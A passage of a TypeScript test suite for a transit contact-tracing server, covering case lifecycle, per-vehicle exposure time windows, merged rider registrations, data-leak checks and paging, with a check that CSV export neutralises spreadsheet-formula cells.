/**
 * Black-box tests of contact tracing: cases, exposures (the overlap rule of trace.ts), degree 2, masking,
 * CSV export (formula injection), audit and access. Rides are placed at exact times with offline scans
 * (scannedAt older than 120 s → boardedAt = scannedAt) and staff registrations (boardedAt).
 */
import { createClient } from '@ridetrace/server/modules/admin/admin.service';
import { csvCell, toCsv } from '@ridetrace/server/modules/cases/csv';
import {
  EXPOSURE_CSV_COLUMNS,
  isValidIdNumber,
  maskName,
  maskPhone,
  type AuditEntry,
  type Case,
  type ExposureLevel,
  type ExposurePage,
} from '@ridetrace/shared';
import { randomUUID } from 'node:crypto';
import type { Response } from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createStaffedCarrier,
  expectError,
  openCase,
  passengerIdOf,
  registerManualRide,
  scanRide,
  withCheckChar as appendCheckChar,
} from '../support/flows.js';
import {
  clientToken,
  confirmedPassenger,
  createCarrier,
  createTestApp,
  seedWorld,
  type TestApp,
  type World,
} from '../support/test-app.js';

const SEC = 1000;
const MIN = 60 * SEC;
const HOUR = 60 * MIN;
const DAY = 24 * HOUR;

/** Every ride is placed relative to BASE (whole minutes, 10 h ago: offline scans are accepted up to 24 h back). */
const BASE = Math.floor((Date.now() - 10 * HOUR) / MIN) * MIN;
const iso = (offsetMs: number) => new Date(BASE + offsetMs).toISOString();

/** Many requests from one IP: lift the per-IP limit (not under test here). */
const NO_IP_LIMIT = { RATE_LIMIT_PER_IP_PER_MINUTE: '100000' };

const FORMULA_START = /^[=+\-@\t\r]/;

type Kind = 'bus' | 'taxi' | 'metro' | 'ferry';

interface Person {
  id: string;
  auth: string;
  name: string;
  phone: string;
  idNumber?: string;
}

interface Vehicle {
  id: number;
  kind: Kind;
  plate: string;
  route: string | null;
  city: string;
  code: string;
}

interface Identity {
  name: string;
  phone: string;
  idNumber?: string;
}

let seq = 0;
const next = () => ++seq;

const SURNAMES = '王李张刘陈杨赵黄周吴徐孙马朱胡郭何林罗高';
/** Distinct three-character names (so a raw name never hides inside a masked one or other text). */
const newName = (n: number) =>
  `${SURNAMES[n % SURNAMES.length]}${String.fromCodePoint(0x5b50 + n)}${String.fromCodePoint(0x6c00 + n)}`;
const newPhone = (n: number) => `137${String(n).padStart(8, '0')}`;

/** GB 11643-1999: appends the check character to 17 digits (cross-checked with the shared validator). */
function withCheckChar(first17: string): string {
  const id = appendCheckChar(first17);
  expect(isValidIdNumber(id)).toBe(true);
  return id;
}
const newIdNumber = (n: number) => withCheckChar(`1101051990${String(n).padStart(7, '0')}`);

/** None of the raw values appears anywhere in the response. */
function expectNoRaw(body: unknown, raw: string[]) {
  const text = typeof body === 'string' ? body : JSON.stringify(body);
  for (const r of raw) expect(text.includes(r), `response leaks ${r}`).toBe(false);
}

/** RFC 4180 parser: quoted fields, doubled quotes, CRLF records; throws on malformed input. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  const n = text.length;
  let i = 0;
  while (i < n) {
    const row: string[] = [];
    for (;;) {
      let cell = '';
      if (text[i] === '"') {
        i++;
        for (;;) {
          if (i >= n) throw new Error('unterminated quoted field');
          if (text[i] === '"') {
            if (text[i + 1] === '"') {
              cell += '"';
              i += 2;
              continue;
            }
            i++;
            break;
          }
          cell += text[i];
          i++;
        }
      } else {
        while (i < n && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
          if (text[i] === '"') throw new Error(`bare quote in an unquoted field at ${i}`);
          cell += text[i];
          i++;
        }
      }
      row.push(cell);
      if (text[i] === ',') {
        i++;
        continue;
      }
      if (text.startsWith('\r\n', i)) {
        i += 2;
        break;
      }
      if (i >= n) break;
      throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
    }
    rows.push(row);
  }
  return rows;
}

/** The CSV body (BOM stripped) as records keyed by header. */
function csvRecords(res: Response): Record<string, string>[] {
  expect(res.text.startsWith('\uFEFF')).toBe(true);
  const [header, ...rows] = parseCsv(res.text.slice(1));
  expect(header).toEqual(EXPOSURE_CSV_COLUMNS);
  return rows.map((r) => {
    expect(r).toHaveLength(EXPOSURE_CSV_COLUMNS.length);
    return Object.fromEntries(EXPOSURE_CSV_COLUMNS.map((h, i) => [h, r[i]!]));
  });
}

/** What a cell must read after parsing: formulas neutralised with a leading apostrophe. */
const cellText = (v: string | number | null) =>
  v === null ? '' : typeof v === 'number' ? String(v) : FORMULA_START.test(v) ? `'${v}` : v;

/** The CSV lines the exposures page implies: one per contact. */
function csvFromPage(page: ExposurePage): Record<string, string>[] {
  return page.items.flatMap((e) =>
    e.contacts.map((c) => {
      const values: (string | number | null)[] = [
        e.personId,
        e.name,
        e.phone,
        e.idNumber,
        e.registration,
        e.level,
        c.degree,
        c.via,
        c.carrier.kind,
        c.carrier.plate,
        c.carrier.route,
        c.carrier.city,
        c.caseBoardedAt,
        c.contactBoardedAt,
        c.gapMinutes,
        c.level,
      ];
      return Object.fromEntries(EXPOSURE_CSV_COLUMNS.map((h, i) => [h, cellText(values[i]!)]));
    }),
  );
}

const byKey = (a: Record<string, string>, b: Record<string, string>) =>
  JSON.stringify(a) < JSON.stringify(b) ? -1 : 1;

/** Test helpers bound to one app. */
class Kit {
  constructor(
    readonly t: TestApp,
    readonly w: World,
  ) {}

  async person(opts: Partial<Identity> = {}): Promise<Person> {
    const n = next();
    const identity: Identity = {
      name: opts.name ?? newName(n),
      phone: opts.phone ?? newPhone(n),
      ...(opts.idNumber ? { idNumber: opts.idNumber } : {}),
    };
    const auth = await confirmedPassenger(this.t, `trace-${n}`, identity);
    return { id: await passengerIdOf(this.t, auth), auth, ...identity };
  }

  async vehicle(
    kind: Kind = 'bus',
    opts: { route?: string; city?: string; staff?: boolean } = {},
  ): Promise<Vehicle> {
    const n = next();
    const body = {
      kind,
      plate: `粤B${String(n).padStart(5, '0')}`,
      route: opts.route ?? `${n}路`,
      city: opts.city ?? '深圳',
    };
    const { carrier, code } = opts.staff
      ? await createStaffedCarrier(this.t, this.w, body)
      : await createCarrier(this.t, this.w.tokens.operator, body);
    const stored = carrier as typeof carrier & { route: string | null; city: string };
    return {
      id: carrier.id,
      kind,
      plate: carrier.plate,
      route: stored.route,
      city: stored.city,
      code: code.url,
    };
  }

  /** An offline scan at BASE + offsetMs: boardedAt is exactly that time. */
  async ride(p: Person, v: Vehicle, offsetMs: number): Promise<string> {
    const ride = await scanRide(this.t, p.auth, v.code, iso(offsetMs));
    expect(ride.boardedAt).toBe(iso(offsetMs));
    return ride.id;
  }

  /** Staff registration (w.staff must be bound to the carrier) at BASE + offsetMs. */
  async manualRide(v: Vehicle, who: Identity, offsetMs: number) {
    const res = await registerManualRide(this.t, this.w, v.id, { ...who, boardedAt: iso(offsetMs) });
    expect(res.ride).toMatchObject({ source: 'manual', boardedAt: iso(offsetMs) });
    return res;
  }

  createCase(subject: Record<string, string>, fromMs: number, toMs: number, token = this.w.tokens.official) {
    return openCase(this.t, token, {
      subject,
      infectiousFrom: iso(fromMs),
      infectiousTo: iso(toMs),
      caseNumber: `C-${next()}`,
      reason: 'positive PCR test',
    });
  }

  async openCase(
    subject: Record<string, string>,
    fromMs: number,
    toMs: number,
    token = this.w.tokens.official,
  ): Promise<Case> {
    const res = await this.createCase(subject, fromMs, toMs, token);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    return res.body as Case;
  }

  async exposures(caseId: string, query = '', token = this.w.tokens.official): Promise<ExposurePage> {
    const res = await this.t.http().get(`/v1/cases/${caseId}/exposures${query}`).set('authorization', token);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    return res.body as ExposurePage;
  }

  async csv(caseId: string, query = '', token = this.w.tokens.official): Promise<Response> {
    const res = await this.t
      .http()
      .get(`/v1/cases/${caseId}/exposures.csv${query}`)
      .set('authorization', token)
      .buffer(true);
    expect(res.status, res.text).toBe(200);
    return res;
  }

  async audit(caseId: string): Promise<AuditEntry[]> {
    const res = await this.t
      .http()
      .get(`/v1/audit?caseId=${caseId}&limit=200`)
      .set('authorization', this.w.tokens.admin)
      .expect(200);
    return res.body.items as AuditEntry[];
  }

  async listCases(query: string, token = this.w.tokens.official): Promise<Case[]> {
    const all: Case[] = [];
    let cursor: string | null = null;
    do {
      const res = await this.t
        .http()
        .get(`/v1/cases?${query}&limit=200${cursor ? `&cursor=${cursor}` : ''}`)
        .set('authorization', token);
      expect(res.status).toBe(200);
      all.push(...(res.body.items as Case[]));
      cursor = res.body.nextCursor as string | null;
    } while (cursor);
    return all;
  }
}

let t: TestApp;
let w: World;
let k: Kit;
beforeAll(async () => {
  t = await createTestApp(NO_IP_LIMIT);
  w = await seedWorld(t);
  k = new Kit(t, w);
});
afterAll(async () => {
  await t?.close();
});

describe('POST /v1/cases and the case lifecycle', () => {
  it('opens a case by phone (any spelling): 201, subject revealed for a full official', async () => {
    const s = await k.person();
    const c = await k.openCase({ phone: s.phone }, -HOUR, 0);
    expect(c).toMatchObject({
      status: 'open',
      infectiousFrom: iso(-HOUR),
      infectiousTo: iso(0),
      reason: 'positive PCR test',
      subject: { name: s.name, phone: s.phone, passengers: 1 },
      openedBy: w.official.clientId,
      closedAt: null,
    });
    expect(c.id).toMatch(/^[0-9a-f-]{36}$/);
    const spelled = `+86 ${s.phone.slice(0, 3)}-${s.phone.slice(3, 7)}-${s.phone.slice(7)}`;
    const again = await k.openCase({ phone: spelled }, -HOUR, 0);
    expect(again.subject).toEqual({ name: s.name, phone: s.phone, passengers: 1 });
  });

  it('opens a case by ID number (lower-case x check character too)', async () => {
    let idNumber = '';
    for (let n = 0; !idNumber.endsWith('X'); n++)
      idNumber = withCheckChar(`4403041988010${String(n).padStart(4, '0')}`);
    const s = await k.person({ idNumber });
    const c = await k.openCase({ idNumber }, -HOUR, 0);
    expect(c.subject).toEqual({ name: s.name, phone: s.phone, passengers: 1 });
    const lower = await k.openCase({ idNumber: idNumber.toLowerCase() }, -HOUR, 0);
    expect(lower.subject).toEqual({ name: s.name, phone: s.phone, passengers: 1 });
  });

  it('opens a case by passenger id (from GET /v1/passengers/me)', async () => {
    const s = await k.person();
    const c = await k.openCase({ passengerId: s.id }, -HOUR, 0);
    expect(c.subject).toEqual({ name: s.name, phone: s.phone, passengers: 1 });
  });

  it('opens a case for a rider known only through a staff registration', async () => {
    const v = await k.vehicle('bus', { staff: true });
    const who = { name: newName(next()), phone: newPhone(next()) };
    await k.manualRide(v, who, 0);
    const c = await k.openCase({ phone: who.phone }, -HOUR, HOUR);
    expect(c.subject).toEqual({ name: who.name, phone: who.phone, passengers: 1 });
  });

  it('unknown subject → 404 case_subject_unknown (phone, ID number, passenger id)', async () => {
    expectError(await k.createCase({ phone: '13999999999' }, -HOUR, 0), 404, 'case_subject_unknown');
    expectError(
      await k.createCase({ idNumber: withCheckChar('11010519850101999') }, -HOUR, 0),
      404,
      'case_subject_unknown',
    );
    expectError(await k.createCase({ passengerId: randomUUID() }, -HOUR, 0), 404, 'case_subject_unknown');
  });

  it('window errors → 400 case_window_invalid; the edges (equal ends, exactly 30 days) are accepted', async () => {
    const s = await k.person();
    const subject = { phone: s.phone };
    expectError(await k.createCase(subject, 0, -SEC), 400, 'case_window_invalid');
    expectError(await k.createCase(subject, -30 * DAY - SEC, 0), 400, 'case_window_invalid');
    const now = Date.now();
    const future = await t
      .http()
      .post('/v1/cases')
      .set('authorization', w.tokens.official)
      .send({
        subject,
        infectiousFrom: new Date(now - DAY).toISOString(),
        infectiousTo: new Date(now + HOUR).toISOString(),
        caseNumber: 'C-future',
        reason: 'positive PCR test',
      });
    expectError(future, 400, 'case_window_invalid');

    expect((await k.createCase(subject, 0, 0)).status).toBe(201);
    expect((await k.createCase(subject, -30 * DAY, 0)).status).toBe(201);
  });

  it('window checks follow the server clock', async () => {
    const s = await k.person();
    const body = (to: number) => ({
      subject: { phone: s.phone },
      infectiousFrom: new Date(to - DAY).toISOString(),
      infectiousTo: new Date(to).toISOString(),
      caseNumber: 'C-clock',
      reason: 'positive PCR test',
    });
    const inTwoHours = Date.now() + 2 * HOUR;
    expectError(
      await t.http().post('/v1/cases').set('authorization', w.tokens.official).send(body(inTwoHours)),
      400,
      'case_window_invalid',
    );
    t.clock.offsetMs = 3 * HOUR;
    try {
      const res = await t
        .http()
        .post('/v1/cases')
        .set('authorization', w.tokens.official)
        .send(body(inTwoHours));
      expect(res.status).toBe(201);
    } finally {
      t.clock.offsetMs = 0;
    }
  });

  it('body validation → 400 validation_failed (reason missing, empty, > 500 chars; bad subject)', async () => {
    const s = await k.person();
    const base = {
      subject: { phone: s.phone },
      infectiousFrom: iso(-HOUR),
      infectiousTo: iso(0),
      caseNumber: 'C-val',
    };
    const post = (body: object) =>
      t.http().post('/v1/cases').set('authorization', w.tokens.official).send(body);
    expectError(await post(base), 400, 'validation_failed');
    expectError(await post({ ...base, reason: '' }), 400, 'validation_failed');
    expectError(await post({ ...base, reason: 'x'.repeat(501) }), 400, 'validation_failed');
    expectError(await post({ ...base, reason: 'ok', subject: { phone: '12345' } }), 400, 'validation_failed');
    expectError(
      await post({ ...base, reason: 'ok', subject: { phone: s.phone, passengerId: randomUUID() } }),
      400,
      'validation_failed',
    );
    expectError(
      await post({ ...base, reason: 'ok', subject: { passengerId: 'nope' } }),
      400,
      'validation_failed',
    );
    expectError(await post({ ...base, reason: 'ok', infectiousTo: 'yesterday' }), 400, 'validation_failed');
    expectError(await post({ ...base, reason: 'ok', caseNumber: '' }), 400, 'validation_failed');
    const long = await post({ ...base, reason: 'x'.repeat(500) });
    expect(long.status).toBe(201);
    expect(long.body.reason).toBe('x'.repeat(500));
  });

  it('lists, reads and closes a case; closing twice → 409 case_closed', async () => {
    const s = await k.person();
    const c = await k.openCase({ phone: s.phone }, -HOUR, 0);

    const open = await k.listCases('status=open');
    expect(open.find((x) => x.id === c.id)).toEqual(c);
    expect(open.every((x) => x.status === 'open')).toBe(true);
    expect((await k.listCases('status=closed')).some((x) => x.id === c.id)).toBe(false);

    const got = await t.http().get(`/v1/cases/${c.id}`).set('authorization', w.tokens.official).expect(200);
    expect(got.body).toEqual(c);

    const closed = await t
      .http()
      .post(`/v1/cases/${c.id}/close`)
      .set('authorization', w.tokens.official)
      .send({ reason: 'recovered' });
    expect(closed.status).toBe(200);
    expect(closed.body).toMatchObject({ id: c.id, status: 'closed' });
    expect(Date.parse(closed.body.closedAt as string)).not.toBeNaN();

    expectError(
      await t.http().post(`/v1/cases/${c.id}/close`).set('authorization', w.tokens.official).send({}),
      409,
      'case_closed',
    );
    const after = await t.http().get(`/v1/cases/${c.id}`).set('authorization', w.tokens.official).expect(200);
    expect(after.body).toMatchObject({ status: 'closed', closedAt: closed.body.closedAt });
    expect((await k.listCases('status=closed')).some((x) => x.id === c.id)).toBe(true);
    expect((await k.listCases('status=open')).some((x) => x.id === c.id)).toBe(false);
    expect((await k.audit(c.id)).map((e) => e.action)).toEqual(['case.open', 'case.close']);
  });

  it('closing without a body works', async () => {
    const s = await k.person();
    const c = await k.openCase({ phone: s.phone }, -HOUR, 0);
    const res = await t.http().post(`/v1/cases/${c.id}/close`).set('authorization', w.tokens.official);
    expect(res.status).toBe(200);
    expect(res.body.status).toBe('closed');
  });

  it('unknown case id → 404 case_not_found; non-uuid id → 400', async () => {
    const id = randomUUID();
    const get = (path: string) => t.http().get(path).set('authorization', w.tokens.official);
    expectError(await get(`/v1/cases/${id}`), 404, 'case_not_found');
    expectError(await get(`/v1/cases/${id}/exposures`), 404, 'case_not_found');
    expectError(await get(`/v1/cases/${id}/exposures.csv`), 404, 'case_not_found');
    expectError(
      await t.http().post(`/v1/cases/${id}/close`).set('authorization', w.tokens.official).send({}),
      404,
      'case_not_found',
    );
    expectError(await get('/v1/cases/not-a-uuid'), 400, 'validation_failed');
    expectError(await get('/v1/cases/12345/exposures'), 400, 'validation_failed');
    expectError(await get('/v1/cases/not-a-uuid/exposures.csv'), 400, 'validation_failed');
    expectError(
      await t.http().post('/v1/cases/not-a-uuid/close').set('authorization', w.tokens.official).send({}),
      400,
      'validation_failed',
    );
    expectError(await get('/v1/cases?status=pending'), 400, 'validation_failed');
  });
});

type Edge = { s: number; level: ExposureLevel | null; gap?: number };
const edge = (s: number, level: ExposureLevel | null, gap?: number): Edge => ({ s, level, gap });

/** Contacts at offsets (seconds) from the case's boarding: level null = not an exposure. */
const EDGES: Record<Kind, Edge[]> = {
  bus: [
    edge(0, 'close', 0),
    edge(600, 'close', 10),
    edge(601, 'possible', 10.02),
    edge(-600, 'close', 10),
    edge(-601, 'possible', 10.02),
    edge(1800, 'possible', 30),
    edge(1801, null),
    edge(-1800, 'possible', 30),
    edge(-1801, null),
  ],
  taxi: [
    edge(0, 'close', 0),
    edge(300, 'close', 5),
    edge(600, 'close', 10),
    edge(601, null),
    edge(-600, 'close', 10),
    edge(-601, null),
  ],
  metro: [
    edge(300, 'close', 5),
    edge(301, 'possible', 5.02),
    edge(-300, 'close', 5),
    edge(-301, 'possible', 5.02),
    edge(900, 'possible', 15),
    edge(901, null),
    edge(-900, 'possible', 15),
    edge(-901, null),
  ],
  ferry: [
    edge(1800, 'close', 30),
    edge(1801, 'possible', 30.02),
    edge(-1800, 'close', 30),
    edge(-1801, 'possible', 30.02),
    edge(3600, 'possible', 60),
    edge(3601, null),
    edge(-3600, 'possible', 60),
    edge(-3601, null),
  ],
};

describe('GET /v1/cases/:id/exposures: the overlap rule', () => {
  it.each(Object.keys(EDGES) as Kind[])(
    '%s: window edges inclusive, 1 s outside excluded; close/possible at the threshold; gapMinutes',
    async (kind) => {
      const v = await k.vehicle(kind);
      const other = await k.vehicle(kind);
      const subject = await k.person();
      await k.ride(subject, v, 0);
      const placed: { p: Person; e: Edge }[] = [];
      for (const e of EDGES[kind]) {
        const p = await k.person();
        await k.ride(p, v, e.s * SEC);
        placed.push({ p, e });
      }
      // Same time, same kind, another carrier: not an exposure.
      const elsewhere = await k.person();
      await k.ride(elsewhere, other, 0);

      const c = await k.openCase({ phone: subject.phone }, -HOUR, HOUR);
      const page = await k.exposures(c.id);
      const expected = placed.filter((x) => x.e.level !== null);
      expect(page).toMatchObject({
        caseId: c.id,
        degree: 1,
        caseRides: 1,
        total: expected.length,
        nextCursor: null,
      });
      // Ordered by level (close first), then first contact.
      const order = [...expected].sort(
        (a, b) => (a.e.level === b.e.level ? 0 : a.e.level === 'close' ? -1 : 1) || a.e.s - b.e.s,
      );
      expect(page.items.map((i) => i.personId)).toEqual(order.map((x) => x.p.id));
      for (const { p, e } of expected) {
        const item = page.items.find((i) => i.personId === p.id)!;
        expect(item).toMatchObject({
          name: p.name,
          phone: p.phone,
          idNumber: null,
          registration: 'app',
          level: e.level,
          degree: 1,
          firstContactAt: iso(e.s * SEC),
        });
        expect(item.contacts).toEqual([
          {
            carrier: { id: v.id, kind, plate: v.plate, route: v.route, city: v.city },
            caseBoardedAt: iso(0),
            contactBoardedAt: iso(e.s * SEC),
            gapMinutes: e.gap,
            level: e.level,
            degree: 1,
            via: null,
          },
        ]);
      }
      const ids = page.items.map((i) => i.personId);
      expect(ids).not.toContain(subject.id);
      expect(ids).not.toContain(elsewhere.id);
    },
  );

  it('bus: 30 min exactly in, 30 min + 1 s out; 10 min close, 10 min + 1 s possible (10.02); before the case the same', async () => {
    const v = await k.vehicle('bus');
    const s = await k.person();
    await k.ride(s, v, 0);
    const at30 = await k.person();
    const at30s = await k.person();
    const at10 = await k.person();
    const at10s = await k.person();
    const before10 = await k.person();
    const before30s = await k.person();
    await k.ride(at30, v, 30 * MIN);
    await k.ride(at30s, v, 30 * MIN + SEC);
    await k.ride(at10, v, 10 * MIN);
    await k.ride(at10s, v, 10 * MIN + SEC);
    await k.ride(before10, v, -10 * MIN);
    await k.ride(before30s, v, -30 * MIN - SEC);
    const c = await k.openCase({ phone: s.phone }, -HOUR, HOUR);
    const page = await k.exposures(c.id);
    const of = (p: Person) => page.items.find((i) => i.personId === p.id);
    expect(of(at30)).toMatchObject({ level: 'possible', contacts: [{ gapMinutes: 30, level: 'possible' }] });
    expect(of(at30s)).toBeUndefined();
    expect(of(at10)).toMatchObject({ level: 'close', contacts: [{ gapMinutes: 10, level: 'close' }] });
    expect(of(at10s)).toMatchObject({
      level: 'possible',
      contacts: [{ gapMinutes: 10.02, level: 'possible' }],
    });
    expect(of(before10)).toMatchObject({
      level: 'close',
      contacts: [{ gapMinutes: 10, level: 'close', caseBoardedAt: iso(0), contactBoardedAt: iso(-10 * MIN) }],
    });
    expect(of(before30s)).toBeUndefined();
    expect(page.total).toBe(4);
  });

  it('case rides outside the infectious window are ignored; contacts after its end still count', async () => {
    const v = await k.vehicle('bus');
    const s = await k.person();
    await k.ride(s, v, -3 * HOUR); // outside [−1 h, 0]
    await k.ride(s, v, 0); // exactly at infectiousTo
    const early = await k.person();
    await k.ride(early, v, -3 * HOUR + MIN);
    const late = await k.person();
    await k.ride(late, v, 20 * MIN); // after infectiousTo, inside the window of the case ride
    const c = await k.openCase({ phone: s.phone }, -HOUR, 0);
    const page = await k.exposures(c.id);
    expect(page.caseRides).toBe(1);
    expect(page.items.map((i) => i.personId)).toEqual([late.id]);
    expect(page.items[0]!.contacts).toMatchObject([
      { caseBoardedAt: iso(0), gapMinutes: 20, level: 'possible' },
    ]);
  });

  it('infectious window bounds are inclusive for the case rides', async () => {
    const v = await k.vehicle('taxi');
    const s = await k.person();
    await k.ride(s, v, 0);
    const p = await k.person();
    await k.ride(p, v, 2 * MIN);
    const cases: [number, number, number][] = [
      [-HOUR, 0, 1],
      [-HOUR, -SEC, 0],
      [0, HOUR, 1],
      [SEC, HOUR, 0],
    ];
    for (const [from, to, rides] of cases) {
      const c = await k.openCase({ phone: s.phone }, from, to);
      const page = await k.exposures(c.id);
      expect({ from, to, caseRides: page.caseRides, total: page.total }).toEqual({
        from,
        to,
        caseRides: rides,
        total: rides,
      });
    }
  });

  it('a person met on several rides (two carriers) appears once with every contact; close when any is', async () => {
    const bus = await k.vehicle('bus');
    const metro = await k.vehicle('metro');
    const s = await k.person();
    await k.ride(s, bus, 0);
    await k.ride(s, metro, 2 * HOUR);
    const p = await k.person();
    await k.ride(p, bus, 20 * MIN); // possible
    await k.ride(p, metro, 2 * HOUR - 3 * MIN); // close (metro close 5 min), before the case boarded
    const q = await k.person();
    await k.ride(q, metro, 2 * HOUR + 10 * MIN); // possible (metro window 15)
    const c = await k.openCase({ passengerId: s.id }, -HOUR, 3 * HOUR);
    const page = await k.exposures(c.id);
    expect(page.caseRides).toBe(2);
    expect(page.total).toBe(2);
    expect(page.items.map((i) => i.personId)).toEqual([p.id, q.id]);
    const [ep, eq] = page.items;
    expect(ep).toMatchObject({ level: 'close', degree: 1, firstContactAt: iso(20 * MIN) });
    expect(ep!.contacts).toEqual([
      {
        carrier: { id: bus.id, kind: 'bus', plate: bus.plate, route: bus.route, city: bus.city },
        caseBoardedAt: iso(0),
        contactBoardedAt: iso(20 * MIN),
        gapMinutes: 20,
        level: 'possible',
        degree: 1,
        via: null,
      },
      {
        carrier: { id: metro.id, kind: 'metro', plate: metro.plate, route: metro.route, city: metro.city },
        caseBoardedAt: iso(2 * HOUR),
        contactBoardedAt: iso(2 * HOUR - 3 * MIN),
        gapMinutes: 3,
        level: 'close',
        degree: 1,
        via: null,
      },
    ]);
    expect(eq).toMatchObject({ level: 'possible', contacts: [{ gapMinutes: 10, level: 'possible' }] });
  });

  it('caseRides counts every case ride in the window, with or without co-passengers', async () => {
    const a = await k.vehicle('bus');
    const b = await k.vehicle('ferry');
    const s = await k.person();
    await k.ride(s, a, -50 * MIN);
    await k.ride(s, a, 0);
    await k.ride(s, b, 30 * MIN);
    await k.ride(s, b, 2 * HOUR); // outside the window
    const p = await k.person();
    await k.ride(p, a, MIN);
    const c = await k.openCase({ phone: s.phone }, -HOUR, HOUR);
    const page = await k.exposures(c.id);
    expect(page.caseRides).toBe(3);
    // p: within 30 min of the ride at 0 only (51 min after the one at −50 min).
    expect(page.items.map((i) => i.personId)).toEqual([p.id]);
    expect(page.items[0]!.contacts).toHaveLength(1);

    const none = await k.openCase({ phone: s.phone }, HOUR, 90 * MIN);
    const empty = await k.exposures(none.id);
    expect(empty).toMatchObject({ caseRides: 0, total: 0, items: [], nextCursor: null });
  });

  it('a subject riding twice on one carrier is not its own contact', async () => {
    const v = await k.vehicle('bus');
    const s = await k.person();
    await k.ride(s, v, 0);
    await k.ride(s, v, 5 * MIN);
    const c = await k.openCase({ phone: s.phone }, -HOUR, HOUR);
    const page = await k.exposures(c.id);
    expect(page).toMatchObject({ caseRides: 2, total: 0, items: [] });
  });
});

describe('exposures: manual riders and merged registrations', () => {
  it('manually registered riders are included with registration manual', async () => {
    const v = await k.vehicle('bus', { staff: true });
    const s = await k.person();
    await k.ride(s, v, 0);
    const rider = { name: newName(next()), phone: newPhone(next()), idNumber: newIdNumber(next()) };
    const reg = await k.manualRide(v, rider, 4 * MIN);
    expect(reg.rider.matched).toBe(false);
    const c = await k.openCase({ phone: s.phone }, -HOUR, HOUR);
    const page = await k.exposures(c.id);
    expect(page.total).toBe(1);
    expect(page.items[0]).toMatchObject({
      name: rider.name,
      phone: rider.phone,
      idNumber: rider.idNumber,
      registration: 'manual',
      level: 'close',
      degree: 1,
      contacts: [{ contactBoardedAt: iso(4 * MIN), gapMinutes: 4, level: 'close' }],
    });
  });

  it('a manual rider with the phone of an app passenger (both on rides) appears once, merged by phone', async () => {
    const v = await k.vehicle('bus', { staff: true });
    const s = await k.person();
    await k.ride(s, v, 0);
    const who = { name: newName(next()), phone: newPhone(next()) };
    // Registered by staff first (a manual rider), later the same person installs the app.
    const reg = await k.manualRide(v, who, MIN);
    expect(reg.rider.matched).toBe(false);
    const app = await k.person(who);
    await k.ride(app, v, 6 * MIN);
    const other = await k.person();
    await k.ride(other, v, 12 * MIN);
    const c = await k.openCase({ phone: s.phone }, -HOUR, HOUR);
    const page = await k.exposures(c.id);
    expect(page.total).toBe(2);
    const same = page.items.filter((i) => i.phone === who.phone);
    expect(same).toHaveLength(1);
    expect(same[0]).toMatchObject({
      personId: app.id,
      name: who.name,
      level: 'close',
      firstContactAt: iso(MIN),
    });
    expect(same[0]!.contacts.map((x) => x.contactBoardedAt)).toEqual([iso(MIN), iso(6 * MIN)]);
    expect(page.items.map((i) => i.personId)).toEqual([app.id, other.id]);
  });

  it('a staff registration of a known app passenger is matched and counted once', async () => {
    const v = await k.vehicle('bus', { staff: true });
    const s = await k.person();
    await k.ride(s, v, 0);
    const app = await k.person();
    await k.ride(app, v, 2 * MIN);
    const reg = await k.manualRide(v, { name: app.name, phone: app.phone }, 7 * MIN);
    expect(reg.rider.matched).toBe(true);
    const c = await k.openCase({ phone: s.phone }, -HOUR, HOUR);
    const page = await k.exposures(c.id);
    expect(page.total).toBe(1);
    expect(page.items[0]).toMatchObject({ personId: app.id, registration: 'app' });
    expect(page.items[0]!.contacts).toHaveLength(2);
  });

  /** The subject was registered by staff before installing the app: two registrations of one person. */
  async function subjectWithTwoRegistrations(
    manual: { phone?: string; idNumber?: string },
    app: { idNumber?: string },
  ) {
    const v = await k.vehicle('bus', { staff: true });
    const name = newName(next());
    const phone = newPhone(next());
    const reg = await k.manualRide(
      v,
      { name, phone: manual.phone ?? phone, ...(manual.idNumber ? { idNumber: manual.idNumber } : {}) },
      -5 * MIN,
    );
    expect(reg.rider.matched).toBe(false);
    const s = await k.person({ name, phone, ...(app.idNumber ? { idNumber: app.idNumber } : {}) });
    await k.ride(s, v, 0);
    const contact = await k.person();
    await k.ride(contact, v, 2 * MIN);
    return { s, contact, raw: [phone, ...(manual.phone ? [manual.phone] : [])] };
  }

  function expectOnlyContact(page: ExposurePage, contact: Person, raw: string[]) {
    expect(page.items.map((i) => i.personId)).toEqual([contact.id]);
    expect(page.caseRides).toBe(2);
    expect(page.items[0]!.contacts.map((c) => c.caseBoardedAt).sort()).toEqual([iso(-5 * MIN), iso(0)]);
    expectNoRaw(page, raw);
  }

  it('the subject with an app and a manual registration (same phone) is never its own contact', async () => {
    const { s, contact, raw } = await subjectWithTwoRegistrations({}, {});
    for (const subject of [{ phone: s.phone }, { passengerId: s.id }] as Record<string, string>[]) {
      const c = await k.openCase(subject, -HOUR, HOUR);
      expect(c.subject.passengers).toBe(2);
      expectOnlyContact(await k.exposures(c.id), contact, raw);
      expectOnlyContact(await k.exposures(c.id, '?degree=2'), contact, raw);
    }
  });

  it('case by ID number: the manual registration (same phone, no ID number) is the subject too', async () => {
    const idNumber = newIdNumber(next());
    const { s, contact, raw } = await subjectWithTwoRegistrations({}, { idNumber });
    // Same person by the merge rule (phone): the passenger-id lookup finds both registrations.
    const byId = await k.openCase({ passengerId: s.id }, -HOUR, HOUR);
    expect(byId.subject.passengers).toBe(2);
    const c = await k.openCase({ idNumber }, -HOUR, HOUR);
    expect(c.subject.passengers).toBe(2);
    expectOnlyContact(await k.exposures(c.id), contact, raw);
  });

  it('case by phone: a manual registration with the same ID number (other phone) is the subject too', async () => {
    const idNumber = newIdNumber(next());
    const otherPhone = newPhone(next());
    const { s, contact, raw } = await subjectWithTwoRegistrations(
      { phone: otherPhone, idNumber },
      { idNumber },
    );
    const byId = await k.openCase({ passengerId: s.id }, -HOUR, HOUR);
    expect(byId.subject.passengers).toBe(2);
    expectOnlyContact(await k.exposures(byId.id), contact, raw);
    const c = await k.openCase({ phone: s.phone }, -HOUR, HOUR);
    expect(c.subject.passengers).toBe(2);
    expectOnlyContact(await k.exposures(c.id), contact, raw);
  });
});

describe('exposures: paging', () => {
  it('limit + nextCursor walk every person exactly once; total is correct on every page', async () => {
    const v = await k.vehicle('bus');
    const s = await k.person();
    await k.ride(s, v, 0);
    const people: Person[] = [];
    for (let i = 1; i <= 5; i++) {
      const p = await k.person();
